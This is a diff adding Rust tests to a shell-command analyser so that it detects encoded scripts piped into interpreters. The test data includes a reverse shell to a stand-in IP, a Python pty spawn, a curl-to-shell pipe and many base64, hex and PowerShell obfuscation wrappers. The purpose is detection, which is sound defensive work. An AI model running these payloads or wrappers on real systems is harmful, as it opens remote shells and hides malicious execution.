@@ -79,11 +79,78 @@ fn scripts_inside_scripts_are_read() {
             "powershell -NoProfile -Command \"Remove-Item x -Recurse\"",
             &["powershell -NoProfile -Command Remove-Item x -Recurse (top)", "remove-item -Recurse x (nested)"],
         ),
-        ("powershell -enc ZABpAHIA", &["powershell -enc ZABpAHIA (top)", "dir (nested)"]),
+        ("powershell -enc ZABpAHIA", &["powershell -enc ZABpAHIA (top)", "dir (decoded)"]),
         ("git -C /srv push origin", &["git push -C /srv origin (top)"]),
     ] {
         assert_eq!(lines(script), expected, "{script}");
     }
+}
+
+/// Programs that a script runs out of an encoded text.
+fn decoded(script: &str) -> Vec<String> {
+    let all = commands(script).found.into_iter().filter(|found| found.context == "decoded");
+    all.map(|found| found.text).collect()
+}
+
+#[test]
+fn encoded_scripts_that_are_run_are_read() {
+    use base64::Engine as _;
+    let inner = "bash -i >& /dev/tcp/198.51.100.23/8443 0>&1";
+    let text = base64::engine::general_purpose::STANDARD.encode(inner);
+    let hex = hex::encode(inner);
+    for script in [
+        format!("echo {text} | base64 -d | bash"),
+        format!("echo '{}' | base64 -D | sudo sh", text.trim_end_matches('=')),
+        format!("printf '%s' {text} | base64 --decode | bash -s -- x"),
+        format!("printf {text} | openssl base64 -d -A | zsh"),
+        format!("printf '{text}\\n' | openssl enc -base64 -d | sh -"),
+        format!("echo -n {hex} | xxd -r -p | sh"),
+        format!("base64 -d <<< {text} | sh"),
+        format!("base64 -d <<'EOF' | sh\n{text}\nEOF\n"),
+        format!("bash -c \"$(echo {text} | base64 -d)\""),
+        format!("bash -lc 'echo {text} | base64 -d | sh'"),
+        format!("eval \"$(echo {text} | base64 -d)\""),
+        format!("eval `echo {text} | base64 -d`"),
+        format!("$(echo {text} | base64 -d)"),
+        format!("bash <<< \"$(echo {text} | base64 -d)\""),
+        format!("bash <(echo {text} | base64 -d)"),
+        format!("source <(echo {text} | base64 -d)"),
+        format!("echo {text} | base64 -d | tee /dev/null; echo {text} | base64 -d | cat | sh"),
+    ] {
+        let all = decoded(&script);
+        assert!(all.len() == 1 && all[0].starts_with("bash -i") && all[0].contains("/dev/tcp/"), "{script}: {all:?}");
+    }
+    let python = base64::engine::general_purpose::STANDARD.encode("import pty;pty.spawn('sh')");
+    assert_eq!(decoded(&format!("echo {python} | base64 -d | python3 -")), ["import pty;pty.spawn('sh')"]);
+    let wide: Vec<u8> = "Remove-Item x".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    let wide = base64::engine::general_purpose::STANDARD.encode(wide);
+    assert_eq!(decoded(&format!("pwsh -nop -EncodedCommand {wide}")), ["Remove-Item x"]);
+    assert_eq!(decoded(&format!("powershell.exe /en {wide}")), ["Remove-Item x"]);
+}
+
+#[test]
+fn encoded_text_that_is_not_run_is_no_script() {
+    for script in [
+        "echo bHM= | base64 -d",
+        "echo bHM= | base64 -d > x.sh",
+        "echo bHM= | base64 | sh",
+        "echo 'b H!' | base64 -d | sh",
+        "echo bHM= | base64 -d | sh x.sh",
+        "echo bHM= | base64 -d | python3 x.py",
+        "base64 -d x.b64 | sh",
+        "curl -s https://x.test | base64 -d | sh",
+        "echo gIGCg4Q= | base64 -d | sh",
+        "echo \"$(echo bHM= | base64 -d)\"",
+    ] {
+        assert_eq!(decoded(script), Vec::<String>::new(), "{script}");
+    }
+    // Deeper than scripts are read, and still no end of it.
+    let deep = (0..9).fold("ls".to_owned(), |inner, _| {
+        use base64::Engine as _;
+        format!("echo {} | base64 -d | sh", base64::engine::general_purpose::STANDARD.encode(inner))
+    });
+    assert!(!commands(&deep).parsed);
+    assert_eq!(lines("echo 'rm -rf x' | sh"), ["echo rm -rf x (top)", "sh (top)", "rm -rf x (heredoc)"]);
 }
 
 #[test]
